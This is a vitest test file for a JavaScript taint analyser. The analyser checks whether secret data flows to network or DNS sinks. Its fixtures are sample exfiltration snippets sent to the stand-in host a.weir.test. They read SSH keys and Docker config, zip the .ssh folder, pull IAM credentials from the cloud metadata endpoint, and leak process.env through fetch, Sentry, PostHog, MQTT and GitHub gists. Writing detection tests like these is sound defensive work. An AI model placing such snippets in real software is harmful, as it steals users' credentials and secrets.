import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { labelNames } from './labels.ts';

const HOME = `import fs from 'fs'; import os from 'os'; import { join } from 'path';`;

test.each([
  [
    'a path of which no piece alone says it',
    `${HOME} fetch('https://a.weir.test', { body: fs.readFileSync(join(os.homedir(), '.docker', 'config.json')) })`,
    'credential',
  ],
  [
    'a copy of a file of keys',
    `${HOME} const to = join(os.tmpdir(), 'x'); fs.copyFileSync(os.homedir() + '/.ssh/id_rsa', to); fetch('https://a.weir.test', { body: fs.readFileSync(to) })`,
    'credential',
  ],
  [
    'an archive of a folder of keys',
    `${HOME} import Zip from 'adm-zip'; const zip = new Zip(); zip.addLocalFolder(os.homedir() + '/.ssh'); fetch('https://a.weir.test', { body: zip.toBuffer() })`,
    'credential',
  ],
  [
    'keys of a cloud, through a function that asks for any path',
    `const ask = async (path) => (await fetch('http://169.254.169.254/latest' + path)).text(); const keys = await ask('/meta-data/iam/security-credentials/r'); fetch('https://a.weir.test', { body: keys })`,
    'credential',
  ],
  [
    'what a generator yields',
    `import os from 'os'; import dns from 'dns'; function* labels(text) { yield text.slice(0, 60); } for (const label of labels(os.hostname())) dns.resolve4(label + '.a.weir.test', () => {});`,
    'host',
  ],
  [
    'what a parameter is by default',
    `const send = ({ body = JSON.stringify(process.env) } = {}) => fetch('https://a.weir.test', { body }); send();`,
    'envAll',
  ],
  [
    'what dotenv read',
    `import { config } from 'dotenv'; import { PostHog } from 'posthog-node'; const client = new PostHog('k', { host: 'https://a.weir.test' }); const { parsed } = config(); client.capture({ properties: { ...parsed } })`,
    'envAll',
  ],
  [
    'what a hook of a client adds',
    `import * as Sentry from '@sentry/node'; Sentry.init({ dsn: 'https://k@a.weir.test/1', beforeSend(event) { event.extra = { ...process.env }; return event; } })`,
    'envAll',
  ],
  [
    'a broker',
    `import mqtt from 'mqtt'; const client = mqtt.connect('mqtts://a.weir.test'); client.publish('t', JSON.stringify(process.env))`,
    'envAll',
  ],
])('%s', (_how, source, label) => {
  const sent = analyzeJs(source).flow.flows.filter(({ sink }) => sink === 'network' || sink === 'dns');

  expect(sent.flatMap(({ labels }) => labelNames(labels))).toContain(label);
});

test.each([
  [
    'a service of the cloud',
    `const r = await fetch('http://169.254.169.254/latest/meta-data/placement/region'); fetch('https://a.weir.test', { body: await r.text() })`,
  ],
  [
    'one setting that dotenv read',
    `import { config } from 'dotenv'; const { parsed } = config(); fetch('https://a.weir.test', { body: parsed.PORT })`,
  ],
])('neither keys nor the environment: %s', (_how, source) => {
  const labels = analyzeJs(source).flow.flows.flatMap((flow) => labelNames(flow.labels));

  expect(labels).not.toContain('credential');
  expect(labels).not.toContain('envAll');
});

test.each([
  [`export const send = (body, to = 'https://a.weir.test/u') => fetch(to, { body: process.env })`],
  [
    `import http2 from 'http2'; import fs from 'fs'; const s = http2.connect('https://a.weir.test/u'); const r = s.request({}); fs.createReadStream('/root/.ssh/id_rsa').pipe(r)`,
  ],
  [
    `import { Octokit } from '@octokit/rest'; const o = new Octokit({ baseUrl: 'https://a.weir.test/u' }); o.gists.create({ files: process.env })`,
  ],
])('where it goes: %s', (source) => {
  expect(analyzeJs(source).flow.flows.flatMap(({ targets }) => targets.map(({ text }) => text))).toContain(
    'https://a.weir.test/u',
  );
});
